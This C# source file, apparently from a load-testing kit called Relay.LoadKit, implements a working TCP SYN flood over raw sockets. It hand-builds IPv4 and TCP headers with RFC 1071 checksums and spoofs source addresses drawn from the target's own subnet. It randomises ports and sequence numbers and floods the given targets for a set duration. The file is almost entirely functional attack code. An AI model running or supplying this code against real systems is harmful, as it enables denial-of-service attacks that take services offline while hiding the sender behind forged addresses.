using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

namespace Relay.LoadKit;

/// <summary>
/// SYNs that nobody will follow up, from addresses of the target's network that nobody has: raw(7) with its own header.
/// <code>
/// IPv4 header, 20 bytes | TCP header, 20 bytes (RFC 9293 section 3.1), only SYN set
/// </code>
/// </summary>
internal static class SynFlood
{
    private const int IpHeader = 20, TcpHeader = 20, PacketsPerTurn = 20;

    public static async Task RunAsync(Arguments arguments)
    {
        IPEndPoint[] targets = arguments.Targets;
        using Socket raw = new(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
        raw.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
        Random random = new(2);
        byte[] packet = new byte[IpHeader + TcpHeader];
        TimeSpan duration = TimeSpan.FromSeconds(arguments.Number("seconds"));
        int sent = 0;
        for (long began = Stopwatch.GetTimestamp(); Stopwatch.GetElapsedTime(began) < duration;)
        {
            for (int i = 0; i < PacketsPerTurn; i++)
            {
                IPEndPoint target = targets[sent % targets.Length];
                Fill(packet, target, (byte)random.Next(100, 250), (ushort)random.Next(1024, 65_536), (uint)random.NextInt64(uint.MaxValue));
                _ = raw.SendTo(packet, target);
                sent++;
            }
            if (sent == PacketsPerTurn)
                Console.WriteLine("flooding");
            await Task.Delay(1);
        }
        Console.WriteLine($"sent {sent}");
    }

    private static void Fill(Span<byte> packet, IPEndPoint target, byte neighbour, ushort sourcePort, uint sequence)
    {
        packet.Clear();
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet[2..], (ushort)packet.Length);
        packet[8] = 64;
        packet[9] = (byte)ProtocolType.Tcp;
        target.Address.TryWriteBytes(packet[16..], out _);
        packet[16..20].CopyTo(packet[12..]);
        packet[15] = neighbour;
        BinaryPrimitives.WriteUInt16BigEndian(packet[10..], Checksum(packet[..IpHeader], 0));
        Span<byte> tcp = packet[IpHeader..];
        BinaryPrimitives.WriteUInt16BigEndian(tcp, sourcePort);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], (ushort)target.Port);
        BinaryPrimitives.WriteUInt32BigEndian(tcp[4..], sequence);
        tcp[12] = 5 << 4;
        tcp[13] = 2;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[14..], 64_240);
        // Over the pseudo-header too: both addresses, the protocol, the length.
        uint pseudo = Sum(packet[12..20]) + (uint)ProtocolType.Tcp + TcpHeader;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[16..], Checksum(tcp, pseudo));
    }

    /// <summary>RFC 1071.</summary>
    private static ushort Checksum(ReadOnlySpan<byte> bytes, uint start)
    {
        uint sum = start + Sum(bytes);
        while (sum >> 16 != 0)
            sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~sum;
    }

    private static uint Sum(ReadOnlySpan<byte> bytes)
    {
        uint sum = 0;
        for (int i = 0; i < bytes.Length; i += 2)
            sum += BinaryPrimitives.ReadUInt16BigEndian(bytes[i..]);
        return sum;
    }
}
